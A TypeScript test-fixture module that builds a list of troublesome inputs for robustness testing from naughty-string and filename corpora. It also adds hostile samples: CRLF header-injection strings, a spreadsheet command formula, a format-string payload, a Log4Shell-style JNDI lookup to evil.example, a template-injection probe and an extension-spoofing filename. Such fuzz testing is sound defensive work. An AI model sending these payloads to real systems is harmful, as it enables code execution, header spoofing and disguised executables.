import { readFileSync } from 'node:fs';

const corpus = (name: string) => readFileSync(new URL(`../corpus/${name}`, import.meta.url), 'utf8');
const lines = (name: string) => corpus(name).split('\n');

/** Injections as they stand in the list, and as a server that decodes them would see them. */
export const INJECTIONS = lines('crlf-injection.txt').flatMap((line) => {
  try {
    return [line, decodeURIComponent(line), `menu${decodeURIComponent(line)}Set-Cookie: a=b`];
  } catch {
    return [line];
  }
});

/** Texts that have broken other programs, as names and as they are. */
export const NAMES: readonly string[] = [
  ...new Set([
    ...(JSON.parse(corpus('blns.json')) as readonly string[]),
    ...lines('invalid-filenames-linux.txt'),
    ...lines('invalid-filenames-microsoft.txt'),
    ...INJECTIONS,
    'menu\r\nSet-Cookie: a=b\r\n\r\n<html>',
    'menu\r\n--test-boundary\r\n',
    '=cmd|calc!A1',
    '%n%n%n',
    '\u0024{jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '\u202egnp.exe',
    'a\u0000b',
    '\ufeffmenu',
    'İıſK\u212a',
    'x\u0301'.repeat(127),
    'ﬀ'.repeat(255),
    '👨‍👩‍👧‍👦'.repeat(36),
  ]),
];
